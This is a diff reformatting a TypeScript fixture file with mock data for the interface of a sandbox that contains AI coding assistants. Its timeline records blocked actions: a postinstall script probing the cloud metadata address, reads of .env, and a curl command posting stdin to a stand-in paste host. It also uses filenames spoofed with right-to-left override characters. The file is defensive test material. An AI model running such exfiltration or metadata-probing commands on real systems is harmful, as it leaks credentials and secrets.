@@ -36,30 +36,103 @@ export const HOST: HostStatus = {
 
 export const GUARANTEES: readonly Guarantee[] = [
   ['P1', 'No real credential is ever inside the sandbox.', 'enforced', ''],
-  ['P2', 'A credential is used only where its grant says.', 'partial', 'Host and port; method and path come later.'],
+  [
+    'P2',
+    'A credential is used only where its grant says.',
+    'partial',
+    'Host and port; method and path come later.',
+  ],
   ['P3', 'No byte leaves except through the broker.', 'enforced', ''],
-  ['P4', 'No private, link-local, metadata or own address is reached unless you name it.', 'enforced', ''],
-  ['P5', 'Host secrets are not visible.', 'partial', 'Files created later are refused by name, not yet by content.'],
+  [
+    'P4',
+    'No private, link-local, metadata or own address is reached unless you name it.',
+    'enforced',
+    '',
+  ],
+  [
+    'P5',
+    'Host secrets are not visible.',
+    'partial',
+    'Files created later are refused by name, not yet by content.',
+  ],
   ['P6', 'Nothing the assistant wrote runs on the host by itself.', 'enforced', ''],
-  ['P7', 'The host project is unchanged until you accept.', 'enforced', 'Not in the live working copy.'],
+  [
+    'P7',
+    'The host project is unchanged until you accept.',
+    'enforced',
+    'Not in the live working copy.',
+  ],
   ['P8', 'Everything that crossed the wall is on the timeline.', 'enforced', ''],
   ['P9', 'In doubt, deny, and say why.', 'enforced', ''],
   ['P10', 'The session ends: nothing of it stays behind but its changes.', 'enforced', ''],
 ].map(([name, promise, state, note]) => ({ id: name, promise, state, note }) as Guarantee);
 
 export const ASSISTANTS: readonly AssistantInfo[] = [
-  { name: 'claude-code', title: 'Claude Code', version: '2.1', image: 'ready', kinds: ['anthropic'], hosts: ['api.anthropic.com', 'statsig.anthropic.com', 'claude.ai', 'console.anthropic.com'] },
-  { name: 'codex', title: 'Codex', version: '0.169', image: 'ready', kinds: ['openai'], hosts: ['api.openai.com', 'auth.openai.com'] },
-  { name: 'gemini-cli', title: 'Gemini CLI', version: '0.61', image: 'builds-once', kinds: ['gemini'], hosts: ['generativelanguage.googleapis.com'] },
-  { name: 'opencode', title: 'opencode', version: '1.18', image: 'ready', kinds: ['anthropic', 'openai'], hosts: ['models.dev'] },
+  {
+    name: 'claude-code',
+    title: 'Claude Code',
+    version: '2.1',
+    image: 'ready',
+    kinds: ['anthropic'],
+    hosts: ['api.anthropic.com', 'statsig.anthropic.com', 'claude.ai', 'console.anthropic.com'],
+  },
+  {
+    name: 'codex',
+    title: 'Codex',
+    version: '0.169',
+    image: 'ready',
+    kinds: ['openai'],
+    hosts: ['api.openai.com', 'auth.openai.com'],
+  },
+  {
+    name: 'gemini-cli',
+    title: 'Gemini CLI',
+    version: '0.61',
+    image: 'builds-once',
+    kinds: ['gemini'],
+    hosts: ['generativelanguage.googleapis.com'],
+  },
+  {
+    name: 'opencode',
+    title: 'opencode',
+    version: '1.18',
+    image: 'ready',
+    kinds: ['anthropic', 'openai'],
+    hosts: ['models.dev'],
+  },
   { name: 'shell', title: 'Shell', image: 'ready', kinds: [], hosts: [] },
 ];
 
 export const CREDENTIALS: readonly CredentialSummary[] = [
-  { name: 'anthropic-work', kind: 'anthropic', hosts: ['api.anthropic.com'], env: 'ANTHROPIC_API_KEY', addedAt: ago(40 * 86_400_000), rotatedAt: ago(3 * 86_400_000) },
-  { name: 'github-harbor', kind: 'github', hosts: ['github.com', 'api.github.com', 'codeload.github.com', 'raw.githubusercontent.com'], env: 'GITHUB_TOKEN', addedAt: ago(90 * 86_400_000) },
-  { name: 'internal-search', kind: 'header:X-Api-Key', hosts: [], env: 'SEARCH_KEY', addedAt: ago(5 * 3_600_000) },
-  { name: 'npm-publish', kind: 'npm', hosts: ['registry.npmjs.org'], env: 'NPM_TOKEN', addedAt: ago(2 * 86_400_000) },
+  {
+    name: 'anthropic-work',
+    kind: 'anthropic',
+    hosts: ['api.anthropic.com'],
+    env: 'ANTHROPIC_API_KEY',
+    addedAt: ago(40 * 86_400_000),
+    rotatedAt: ago(3 * 86_400_000),
+  },
+  {
+    name: 'github-harbor',
+    kind: 'github',
+    hosts: ['github.com', 'api.github.com', 'codeload.github.com', 'raw.githubusercontent.com'],
+    env: 'GITHUB_TOKEN',
+    addedAt: ago(90 * 86_400_000),
+  },
+  {
+    name: 'internal-search',
+    kind: 'header:X-Api-Key',
+    hosts: [],
+    env: 'SEARCH_KEY',
+    addedAt: ago(5 * 3_600_000),
+  },
+  {
+    name: 'npm-publish',
+    kind: 'npm',
+    hosts: ['registry.npmjs.org'],
+    env: 'NPM_TOKEN',
+    addedAt: ago(2 * 86_400_000),
+  },
 ];
 
 export const RECENT = [PROJECT, '/home/me/site', '/home/me/work/ledger'];
@@ -67,11 +140,13 @@ export const RECENT = [PROJECT, '/home/me/site', '/home/me/work/ledger'];
 export const folders = (path: string): FolderListing => ({
   path,
   ...(path === '/' ? {} : { parent: path.slice(0, path.lastIndexOf('/')) || '/' }),
-  folders: ['dotfiles', 'harbor-api', 'notes', 'pictures', 'site', 'work', 'ab\u202egnp.cod'].map((name) => ({
-    name,
-    path: `${path === '/' ? '' : path}/${name}`,
-    git: name === 'harbor-api' || name === 'site' || name === 'dotfiles',
-  })),
+  folders: ['dotfiles', 'harbor-api', 'notes', 'pictures', 'site', 'work', 'ab\u202egnp.cod'].map(
+    (name) => ({
+      name,
+      path: `${path === '/' ? '' : path}/${name}`,
+      git: name === 'harbor-api' || name === 'site' || name === 'dotfiles',
+    }),
+  ),
 });
 
 export const inspection = (path: string, full: boolean): ProjectInspection => ({
@@ -80,14 +155,27 @@ export const inspection = (path: string, full: boolean): ProjectInspection => ({
   git: { branch: 'main', uncommitted: 3 },
   mounts: [
     { path, how: 'copy-on-write', why: 'the project' },
-    { path: `${HOME}/.claude`, how: 'own-volume', why: 'so that Claude Code remembers between sessions' },
-    { path: '/etc/ssl/certs', how: 'read-only', why: 'so that tools trust this session’s inspector' },
+    {
+      path: `${HOME}/.claude`,
+      how: 'own-volume',
+      why: 'so that Claude Code remembers between sessions',
+    },
+    {
+      path: '/etc/ssl/certs',
+      how: 'read-only',
+      why: 'so that tools trust this session’s inspector',
+    },
   ],
   hidden: [
     { path: '.env', directory: false, by: 'name', rule: '.env files' },
     { path: 'deploy/prod/.env.production', directory: false, by: 'name', rule: '.env files' },
     { path: 'certs/dev-key.pem', directory: false, by: 'content', rule: 'private key inside' },
-    { path: 'infra/terraform.tfstate', directory: false, by: 'content', rule: '2 secrets inside (AWS)' },
+    {
+      path: 'infra/terraform.tfstate',
+      directory: false,
+      by: 'content',
+      rule: '2 secrets inside (AWS)',
+    },
     { path: '.npmrc', directory: false, by: 'name', rule: 'package registry sign-ins' },
     ...(full
       ? Array.from({ length: 1400 }, (_, i) => ({
@@ -105,7 +193,12 @@ export const inspection = (path: string, full: boolean): ProjectInspection => ({
     { mode: 'live', available: true },
   ],
   warnings: full
-    ? [{ code: 'workspace.disk-full', message: 'The disk has 900 MB left; a session that installs packages may fill it.' }]
+    ? [
+        {
+          code: 'workspace.disk-full',
+          message: 'The disk has 900 MB left; a session that installs packages may fill it.',
+        },
+      ]
     : [],
 });
 
@@ -125,11 +218,11 @@ const session = (over: Partial<SessionSummary> & Pick<SessionSummary, 'id'>): Se
   ...over,
 });
 
-export const MAIN = id('harbor000001');
-export const STARTING = id('starting0001');
-export const FAILED = id('failed000001');
+export const MAIN = id('harb0r000001');
+export const STARTING = id('start0000001');
+export const FAILED = id('fa1ed0000001');
 export const ENDED = id('ended0000001');
-export const CLOSED = id('cxosed000001');
+export const CLOSED = id('cxsed0000001');
 export const LIVE = id('ajar00000001');
 
 export const SESSIONS: readonly SessionSummary[] = [
@@ -153,7 +246,11 @@ export const SESSIONS: readonly SessionSummary[] = [
     title: 'upgrade to pg 9',
     state: 'starting',
     startedAt: ago(34_000),
-    progress: { step: 'images', message: 'building the Gemini CLI image: installing packages', fraction: 0.62 },
+    progress: {
+      step: 'images',
+      message: 'building the Gemini CLI image: installing packages',
+      fraction: 0.62,
+    },
   }),
   session({
     id: LIVE,
@@ -164,7 +261,13 @@ export const SESSIONS: readonly SessionSummary[] = [
     network: 'allow',
     startedAt: ago(63 * MINUTE_MS),
     terminals: [{ id: terminalId('term0003'), title: 'opencode' }],
-    alerts: [{ code: 'egress.broker-down', message: 'The broker is restarting: nothing leaves', hint: 'It comes back by itself.' }],
+    alerts: [
+      {
+        code: 'egress.broker-down',
+        message: 'The broker is restarting: nothing leaves',
+        hint: 'It comes back by itself.',
+      },
+    ],
     changed: 2,
   }),
   session({
@@ -205,10 +308,30 @@ export const SESSIONS: readonly SessionSummary[] = [
 export const CHANGES: ChangeSet = {
   cut: false,
   changes: [
-    { path: '.git/hooks/pre-commit', change: 'added', type: 'file', bytes: 212, heldBack: 'git would run it at your next commit' },
-    { path: 'package.json', change: 'modified', type: 'file', added: 2, removed: 1, wouldRun: 'package.json scripts: “postinstall” is new' },
+    {
+      path: '.git/hooks/pre-commit',
+      change: 'added',
+      type: 'file',
+      bytes: 212,
+      heldBack: 'git would run it at your next commit',
+    },
+    {
+      path: 'package.json',
+      change: 'modified',
+      type: 'file',
+      added: 2,
+      removed: 1,
+      wouldRun: 'package.json scripts: “postinstall” is new',
+    },
     { path: 'src/webhooks/retry.ts', change: 'modified', type: 'file', added: 61, removed: 24 },
-    { path: 'src/webhooks/queue.ts', change: 'modified', type: 'file', added: 12, removed: 6, conflict: true },
+    {
+      path: 'src/webhooks/queue.ts',
+      change: 'modified',
+      type: 'file',
+      added: 12,
+      removed: 6,
+      conflict: true,
+    },
     { path: 'test/helpers/clock.ts', change: 'added', type: 'file', added: 48, removed: 0 },
     { path: 'test/webhooks.test.ts', change: 'modified', type: 'file', added: 25, removed: 0 },
     { path: 'docs/old/retry-notes.md', change: 'deleted', type: 'file', removed: 31 },
@@ -242,35 +365,191 @@ const egress = (over: Partial<EgressDraft>, ms: number): EgressDraft => ({
 });
 
 export const OPEN: readonly EgressDraft[] = [
-  egress({ host: 'api.anthropic.com', method: 'POST', path: '/v1/messages', credential: 'anthropic-work', bytesOut: 48_213, program: { pid: 20, command: claude } }, 4_000),
+  egress(
+    {
+      host: 'api.anthropic.com',
+      method: 'POST',
+      path: '/v1/messages',
+      credential: 'anthropic-work',
+      bytesOut: 48_213,
+      program: { pid: 20, command: claude },
+    },
+    4_000,
+  ),
 ];
 
 /** The story of the sketches, oldest first. */
 export const STORY: readonly TimelineDraft[] = [
   { kind: 'session', at: at(1_320_000), op: 'started' },
-  { kind: 'policy', at: at(1_319_500), op: 'applied', rules: ['preset claude-code', 'preset registries', 'default deny'] },
-  { kind: 'credential', at: at(1_319_000), op: 'granted', credential: 'anthropic-work', host: 'api.anthropic.com' },
+  {
+    kind: 'policy',
+    at: at(1_319_500),
+    op: 'applied',
+    rules: ['preset claude-code', 'preset registries', 'default deny'],
+  },
+  {
+    kind: 'credential',
+    at: at(1_319_000),
+    op: 'granted',
+    credential: 'anthropic-work',
+    host: 'api.anthropic.com',
+  },
   { kind: 'session', at: at(1_318_000), op: 'ready' },
-  { kind: 'process', at: at(110_000), op: 'exit', command: ['npm', 'test', '--', '--grep', 'webhook'], exitCode: 1, durationMs: 8100, program: { pid: 200, command: ['bash'], ancestors: [claude] } },
-  { kind: 'touch', at: at(98_000), op: 'create', path: `${PROJECT}/test/helpers/clock.ts`, verdict: 'allowed', program: { pid: 20, command: claude } },
-  egress({ host: 'github.com', path: '/acme/harbor-api.git/info/refs?service=git-upload-pack', credential: 'github-harbor', rule: 'grant github-harbor', bytesIn: 45_056, durationMs: 310, program: { pid: 250, command: ['git', 'fetch'], ancestors: [claude] } }, 80_000),
-  egress({ verdict: 'denied', code: 'egress.private-address', host: '169.254.169.254', port: 80, scheme: 'http', path: '/latest/meta-data/', rule: 'private addresses', bytesIn: 0, program: { pid: 321, command: ['node', 'postinstall.js'], ancestors: [npmInstall, claude] } }, 70_000),
-  { kind: 'dns', at: at(66_000), verdict: 'denied', code: 'egress.no-rule', name: 'telemetry.pkgstats.dev', type: 'A', count: 3, program: { pid: 321, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] } },
-  ...['retry.ts', 'queue.ts', 'index.ts', 'deliver.ts', 'sign.ts'].map(
-    (name): TimelineDraft => ({ kind: 'touch', at: at(61_000), op: 'read', path: `${PROJECT}/src/webhooks/${name}`, verdict: 'allowed', count: name === 'retry.ts' ? 7 : 1, program: { pid: 260, command: ['rg', 'backoff'], ancestors: [claude] } }),
+  {
+    kind: 'process',
+    at: at(110_000),
+    op: 'exit',
+    command: ['npm', 'test', '--', '--grep', 'webhook'],
+    exitCode: 1,
+    durationMs: 8100,
+    program: { pid: 200, command: ['bash'], ancestors: [claude] },
+  },
+  {
+    kind: 'touch',
+    at: at(98_000),
+    op: 'create',
+    path: `${PROJECT}/test/helpers/clock.ts`,
+    verdict: 'allowed',
+    program: { pid: 20, command: claude },
+  },
+  egress(
+    {
+      host: 'github.com',
+      path: '/acme/harbor-api.git/info/refs?service=git-upload-pack',
+      credential: 'github-harbor',
+      rule: 'grant github-harbor',
+      bytesIn: 45_056,
+      durationMs: 310,
+      program: { pid: 250, command: ['git', 'fetch'], ancestors: [claude] },
+    },
+    80_000,
   ),
-  { kind: 'gap', at: at(60_000), source: 'guard', lost: 214, message: 'touches came faster than they could be told' },
-  { kind: 'touch', at: at(57_000), op: 'write', path: `${PROJECT}/src/webhooks/retry.ts`, verdict: 'allowed', count: 2, program: { pid: 20, command: claude } },
-  egress({ host: 'api.anthropic.com', method: 'POST', path: '/v1/messages', credential: 'anthropic-work', rule: 'grant anthropic-work', bytesOut: 21_000, bytesIn: 10_900, durationMs: 4200, program: { pid: 20, command: claude } }, 56_000),
-  { kind: 'touch', at: at(49_000), op: 'rename', path: `${PROJECT}/src/webhooks/old\u202etxt.exe`, to: `${PROJECT}/src/webhooks/legacy.ts`, verdict: 'allowed', program: { pid: 20, command: claude } },
-  { kind: 'touch', at: at(45_000), op: 'open', path: `${PROJECT}/.env`, verdict: 'denied', code: 'hide.secret-file', rule: '.env files', program: { pid: 330, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] } },
+  egress(
+    {
+      verdict: 'denied',
+      code: 'egress.private-address',
+      host: '169.254.169.254',
+      port: 80,
+      scheme: 'http',
+      path: '/latest/meta-data/',
+      rule: 'private addresses',
+      bytesIn: 0,
+      program: { pid: 321, command: ['node', 'postinstall.js'], ancestors: [npmInstall, claude] },
+    },
+    70_000,
+  ),
+  {
+    kind: 'dns',
+    at: at(66_000),
+    verdict: 'denied',
+    code: 'egress.no-rule',
+    name: 'telemetry.pkgstats.dev',
+    type: 'A',
+    count: 3,
+    program: { pid: 321, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] },
+  },
+  ...['retry.ts', 'queue.ts', 'index.ts', 'deliver.ts', 'sign.ts'].map((name): TimelineDraft => ({
+    kind: 'touch',
+    at: at(61_000),
+    op: 'read',
+    path: `${PROJECT}/src/webhooks/${name}`,
+    verdict: 'allowed',
+    count: name === 'retry.ts' ? 7 : 1,
+    program: { pid: 260, command: ['rg', 'backoff'], ancestors: [claude] },
+  })),
+  {
+    kind: 'gap',
+    at: at(60_000),
+    source: 'guard',
+    lost: 214,
+    message: 'touches came faster than they could be told',
+  },
+  {
+    kind: 'touch',
+    at: at(57_000),
+    op: 'write',
+    path: `${PROJECT}/src/webhooks/retry.ts`,
+    verdict: 'allowed',
+    count: 2,
+    program: { pid: 20, command: claude },
+  },
+  egress(
+    {
+      host: 'api.anthropic.com',
+      method: 'POST',
+      path: '/v1/messages',
+      credential: 'anthropic-work',
+      rule: 'grant anthropic-work',
+      bytesOut: 21_000,
+      bytesIn: 10_900,
+      durationMs: 4200,
+      program: { pid: 20, command: claude },
+    },
+    56_000,
+  ),
+  {
+    kind: 'touch',
+    at: at(49_000),
+    op: 'rename',
+    path: `${PROJECT}/src/webhooks/old\u202etxt.exe`,
+    to: `${PROJECT}/src/webhooks/legacy.ts`,
+    verdict: 'allowed',
+    program: { pid: 20, command: claude },
+  },
+  {
+    kind: 'touch',
+    at: at(45_000),
+    op: 'open',
+    path: `${PROJECT}/.env`,
+    verdict: 'denied',
+    code: 'hide.secret-file',
+    rule: '.env files',
+    program: { pid: 330, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] },
+  },
   egress({ path: '/@sinonjs%2ffake-timers', firstSeen: true }, 44_000),
   egress({ path: '/type-detect' }, 43_000),
   egress({ path: '/type-detect' }, 42_500),
   egress({ path: '/type-detect' }, 42_000),
-  { kind: 'credential', at: at(30_000), op: 'tripped', credential: 'anthropic-work', host: 'paste.example.net', code: 'grant.wrong-host', program: { pid: 340, command: ['curl', '-d', '@-', 'https://paste.example.net'], ancestors: [['bash']] } },
-  egress({ verdict: 'denied', code: 'egress.no-rule', host: 'telemetry.pkgstats.dev', method: 'POST', path: '/v2/events', rule: 'default deny', bytesOut: 1100, bytesIn: 0, firstSeen: true, program: { pid: 330, command: ['node', 'scripts/report.js'], ancestors: [npmInstall, claude] } }, 12_000),
-  { kind: 'touch', at: at(6_000), op: 'delete', path: `${PROJECT}/docs/old/retry-notes.md`, verdict: 'allowed', program: { pid: 20, command: claude } },
+  {
+    kind: 'credential',
+    at: at(30_000),
+    op: 'tripped',
+    credential: 'anthropic-work',
+    host: 'paste.example.net',
+    code: 'grant.wrong-host',
+    program: {
+      pid: 340,
+      command: ['curl', '-d', '@-', 'https://paste.example.net'],
+      ancestors: [['bash']],
+    },
+  },
+  egress(
+    {
+      verdict: 'denied',
+      code: 'egress.no-rule',
+      host: 'telemetry.pkgstats.dev',
+      method: 'POST',
+      path: '/v2/events',
+      rule: 'default deny',
+      bytesOut: 1100,
+      bytesIn: 0,
+      firstSeen: true,
+      program: {
+        pid: 330,
+        command: ['node', 'scripts/report.js'],
+        ancestors: [npmInstall, claude],
+      },
+    },
+    12_000,
+  ),
+  {
+    kind: 'touch',
+    at: at(6_000),
+    op: 'delete',
+    path: `${PROJECT}/docs/old/retry-notes.md`,
+    verdict: 'allowed',
+    program: { pid: 20, command: claude },
+  },
 ];
 
 /** A long session: `count` further events before the story. */
@@ -279,10 +558,27 @@ export const longStory = (count: number): readonly TimelineDraft[] =>
     const ms = 1_310_000 - Math.floor((i / count) * 1_190_000);
     const wave = Math.sin(i / 90) + Math.sin(i / 31) * 0.6;
     if (wave > 0.7 && i % 3 === 0) {
-      return egress({ path: `/package-${i % 40}/-/package-${i}.tgz`, bytesIn: (i * 7919) % 90_000, id: `x${i}`, at: at(ms) }, ms);
+      return egress(
+        {
+          path: `/package-${i % 40}/-/package-${i}.tgz`,
+          bytesIn: (i * 7919) % 90_000,
+          id: `x${i}`,
+          at: at(ms),
+        },
+        ms,
+      );
     }
     if (i % 211 === 0) {
-      return egress({ verdict: 'denied', code: 'egress.no-rule', host: `cdn-${i}.example.net`, id: `y${i}`, at: at(ms) }, ms);
+      return egress(
+        {
+          verdict: 'denied',
+          code: 'egress.no-rule',
+          host: `cdn-${i}.example.net`,
+          id: `y${i}`,
+          at: at(ms),
+        },
+        ms,
+      );
     }
     const op = i % 5 === 0 ? ('write' as const) : ('read' as const);
     return {
